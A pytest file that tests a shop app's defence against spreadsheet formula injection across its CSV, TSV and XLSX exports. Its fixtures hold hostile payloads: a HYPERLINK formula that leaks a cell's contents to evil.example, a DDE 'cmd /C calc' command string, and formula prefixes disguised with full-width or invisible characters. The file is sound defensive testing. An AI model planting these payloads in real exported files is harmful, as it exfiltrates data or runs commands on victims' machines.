"""Spreadsheet formula injection: no text the seller (or a supplier's file) typed
becomes a live formula in a CSV or XLSX the app writes.

Hostile names, categories, options, barcodes and notes go in through the real
services; the real table exports (CLI, CSV and XLSX, comma and semicolon) and a
real listing bundle for every target come out, and every file is read back:
no XLSX cell is a formula, text that a spreadsheet would take for one is
neutralised (a leading apostrophe in CSV, Excel's quote prefix on a text cell
in XLSX), real numbers stay numbers, and the app's own import gives back the
same names.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from openpyxl import load_workbook

from shopdesk import catalog, sales, stock, tabular
from shopdesk.catalog import table_io
from shopdesk.export import service
from shopdesk.export.bundle import ExportOptions
from shopdesk.export.validate import TARGETS
from tests.conftest import PIN_A
from tests.export.factory import make_photo

SELLER = ("--seller", "kopi")
NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
PLAIN_NAME = "-Kopi Tubruk Sindoro"
CATEGORY = "@Kopi"
OPTION_NAME = "+Rasa"
OPTIONS = ("-Pedas", "\uff1d1+1")  # the second starts with a full-width equals sign
BARCODE = "=1+1"  # an in-house Code 128 text may hold any printable ASCII
DESCRIPTION = "+1+1 kopi robusta petik merah dari lereng Gunung Sindoro."
MOVE_NOTE = '=HYPERLINK("http://evil.example/","klik")'
SALE_NOTE = "+62 812-3456-7890 (Bu Sri)"  # text the seller typed: must stay readable
VOID_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
BATCH = "-2/1"
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
HOSTILE = (NAME, PLAIN_NAME, CATEGORY, OPTION_NAME, *OPTIONS, BARCODE, MOVE_NOTE, SALE_NOTE)


def _formula_like(text: str) -> bool:
    """What Excel, LibreOffice or Sheets may evaluate (OWASP): = + - @ first, also
    full-width, also after leading blanks or invisible characters; a leading tab or CR."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    body = text
    while body and (body[0].isspace() or unicodedata.category(body[0]) in ("Cc", "Cf")):
        body = body[1:]
    return unicodedata.normalize("NFKC", body[:1])[:1] in ("=", "+", "-", "@")


def _check_csv_cells(cells: list[str], where: str) -> None:
    for cell in cells:
        if PLAIN_NUMBER.fullmatch(cell):
            continue  # a real number, such as a quantity of -2
        assert not _formula_like(cell), f"{where}: {cell!r} is a live formula"


def _csv_rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    for row in rows:
        _check_csv_cells(row, path.name)
    return rows


def _tsv_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    rows = [line.split("\t") for line in text.splitlines()]
    for row in rows:
        _check_csv_cells(row, path.name)
    return rows


def _xlsx_values(path: Path) -> list[object]:
    """Every cell value of every sheet, after checking that none is a live formula."""
    values: list[object] = []
    workbook = load_workbook(path, data_only=False)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
                if isinstance(cell.value, str) and _formula_like(cell.value):
                    # a text cell with Excel's quote prefix (the apostrophe of XLSX)
                    assert cell.data_type == "s" and cell.quotePrefix, (
                        f"{path.name} {cell.coordinate}: {cell.value!r} is not neutralised"
                    )
                values.append(cell.value)
    return values


def _neutralised(text: str) -> str:
    return "'" + text


@pytest.fixture
def hostile_shop(seller, tmp_path):
    """A catalog, stock movements and sales full of formula-like text."""
    chips = catalog.create_product(
        seller,
        name=NAME,
        price=15000,
        category=CATEGORY,
        unit="bungkus",
        option1_name=OPTION_NAME,
        variants=[
            {"option1_value": OPTIONS[0], "barcode": BARCODE},
            {"option1_value": OPTIONS[1], "price": 16000},
        ],
        description=DESCRIPTION,
        weight_g=220,
    )
    plain = catalog.create_product(
        seller,
        name=PLAIN_NAME,
        price=35000,
        category=CATEGORY,
        unit="bungkus",
        sku="TBRK-0001",
        description=DESCRIPTION,
        weight_g=270,
    )
    for product in (chips, plain):
        photo = make_photo(tmp_path / "photos" / f"{product.id}.jpg")
        catalog.add_photo(seller, product_id=product.id, image_path=photo)
    for target, code in (("shopee", "100636"), ("tokopedia", "2731")):
        service.set_category_code(seller, target=target, category=CATEGORY, code=code)
    skus = [v.sku for v in chips.variants] + ["TBRK-0001"]
    for sku in skus:
        stock.receive(seller, sku=sku, quantity=10, batch_code=BATCH, note=MOVE_NOTE)
    stock.adjust(seller, sku=skus[0], quantity=-2, note=MOVE_NOTE)
    sale = sales.record_sale(seller, lines=[(skus[1], 1), ("TBRK-0001", 2)], note=SALE_NOTE)
    sales.record_sale(seller, lines=[(skus[0], 1)], note=NAME)
    sales.void_sale(seller, number=sale.number, reason=VOID_REASON)
    return skus


def test_table_exports_hold_no_live_formula(hostile_shop, cli, tmp_path):
    seen: dict[str, list[object]] = {}
    for table in ("products", "stock", "movements", "sales"):
        for fmt, extra in (("csv", ()), ("csv", ("--semicolon",)), ("xlsx", ())):
            if extra and table in ("movements", "sales"):
                continue  # these two are always comma separated
            target = tmp_path / f"{table}{'-semi' if extra else ''}.{fmt}"
            code, _out, err = cli("table-export", table, "-o", target, *extra, *SELLER, pin=PIN_A)
            assert code == 0, err
            if fmt == "xlsx":
                seen[target.name] = _xlsx_values(target)
            else:
                rows = _csv_rows(target, ";" if extra else ",")
                seen[target.name] = [cell for row in rows for cell in row]
    products_csv = seen["products.csv"]
    for text in (NAME, PLAIN_NAME, CATEGORY, OPTION_NAME, *OPTIONS, BARCODE):
        assert _neutralised(text) in products_csv  # readable: the text after one apostrophe
        assert text in seen["products.xlsx"]  # a text cell keeps the text itself
    assert _neutralised(SALE_NOTE) in seen["sales.csv"] and SALE_NOTE in seen["sales.xlsx"]
    assert _neutralised(MOVE_NOTE) in seen["movements.csv"]
    assert _neutralised(NAME) in seen["products-semi.csv"]
    assert _neutralised(VOID_REASON) in seen["movements.csv"]
    assert VOID_REASON in seen["movements.xlsx"] and BATCH in seen["movements.xlsx"]
    assert _neutralised(BATCH) in seen["movements.csv"]
    assert _neutralised(PLAIN_NAME) in seen["stock-semi.csv"] and PLAIN_NAME in seen["stock.xlsx"]


def test_real_numbers_stay_numbers(seller, hostile_shop, tmp_path):
    from shopdesk import reports

    xlsx = tmp_path / "movements.xlsx"
    reports.export_movements(seller, xlsx, "xlsx")
    sheet = load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    quantities = [row[header.index("quantity")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in quantities)
    assert -2 in [c.value for c in quantities]
    path = tmp_path / "movements.csv"
    reports.export_movements(seller, path, "csv")
    rows = _csv_rows(path)
    assert "-2" in [row[rows[0].index("quantity")] for row in rows[1:]]  # no apostrophe


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_own_export_imports_back_unchanged(seller, hostile_shop, tmp_path, fmt):
    path = tmp_path / f"catalog.{fmt}"
    table_io.export_products(seller, path)
    table = tabular.read_table(path, columns=table_io.COLUMNS, aliases=table_io.ALIASES)
    names = {cells["name"] for _n, cells in table.rows}
    assert names == {NAME, PLAIN_NAME}
    assert {cells["category"] for _n, cells in table.rows} == {CATEGORY}
    preview = table_io.preview_import(seller, path)
    assert preview.ok and preview.count(table_io.UNCHANGED) == 3, preview.rows


def test_every_bundle_file_holds_no_live_formula(seller, hostile_shop, tmp_path):
    stick = tmp_path / "stick"
    stick.mkdir()
    options = ExportOptions(
        cache_dir=tmp_path / "cache",
        base_url="https://kopisindoro.example.id",
        targets=tuple(TARGETS),
        workers=1,
    )
    result = service.export_for_seller(seller, out_dir=stick, options=options)
    assert all(result.included[t] == 2 for t in TARGETS), (result.included, result.issues)
    checked: dict[str, list[object]] = {}
    for path in sorted(result.path.rglob("*")):
        if path.suffix == ".xlsx":
            checked[path.name] = _xlsx_values(path)
        elif path.suffix == ".csv":
            checked[path.name] = [c for row in _csv_rows(path) for c in row]
        elif path.suffix == ".tsv":
            checked[path.name] = [c for row in _tsv_rows(path) for c in row]
    assert set(checked) == {
        "shopee-mass-upload.xlsx",
        "tokopedia-mass-upload.xlsx",
        "shopify-products.csv",
        "woocommerce-products.csv",
        "meta-catalog.csv",
        "google-merchant.tsv",
        "products.csv",
    }
    for name in ("shopify-products.csv", "woocommerce-products.csv", "products.csv"):
        assert _neutralised(NAME) in checked[name] and _neutralised(PLAIN_NAME) in checked[name]
    assert _neutralised(CATEGORY) in checked["products.csv"]
    for name in ("shopee-mass-upload.xlsx", "tokopedia-mass-upload.xlsx"):
        assert NAME in checked[name] and PLAIN_NAME in checked[name]  # the upload keeps the text
    assert OPTIONS[1] in checked["shopee-mass-upload.xlsx"]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        "  =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "\ufe661",
        "'=1+1",
        "''=1+1",
    ],
)
def test_formula_like_text_is_neutralised_and_read_back(text, tmp_path):
    csv_path = tabular.write_csv(tmp_path / "t.csv", ["name", "qty"], [[text, -2]])
    rows = _csv_rows(csv_path)
    assert rows[1] == [_neutralised(text), "-2"]
    table = tabular.read_table(csv_path, columns=("name", "qty"))
    assert table.rows[0][1] == {"name": text, "qty": "-2"}
    xlsx_path = tabular.write_xlsx(tmp_path / "t.xlsx", ["name", "qty"], [[text, -2]])
    sheet = load_workbook(xlsx_path).active
    assert sheet["B2"].value == -2 and sheet["B2"].data_type == "n"
    _xlsx_values(xlsx_path)


@pytest.mark.parametrize("text", ["Kopi", "'T-1", "1-2", "a=b", "Rp 15.000", "x-"])
def test_ordinary_text_is_left_alone(text, tmp_path):
    path = tabular.write_csv(tmp_path / "t.csv", ["name"], [[text]])
    assert _csv_rows(path)[1] == [text]
    assert tabular.read_table(path, columns=("name",)).rows[0][1]["name"] == text


@pytest.mark.parametrize("text", ["Kopi;=1+1", "Kopi,=1+1", 'Kopi";=1+1'])
def test_a_cell_cannot_break_out_under_another_separator(text, tmp_path):
    """Excel opens a .csv with the list separator of its locale (';' in Indonesia):
    a text cell must stay one cell, so that no part of it starts a new one."""
    for delimiter in (",", ";"):
        path = tabular.write_csv(
            tmp_path / "t.csv", ["name", "qty"], [[text, -2]], delimiter=delimiter
        )
        for other in (",", ";"):
            _csv_rows(path, other)
        assert tabular.read_table(path, columns=("name", "qty")).rows[0][1]["name"] == text
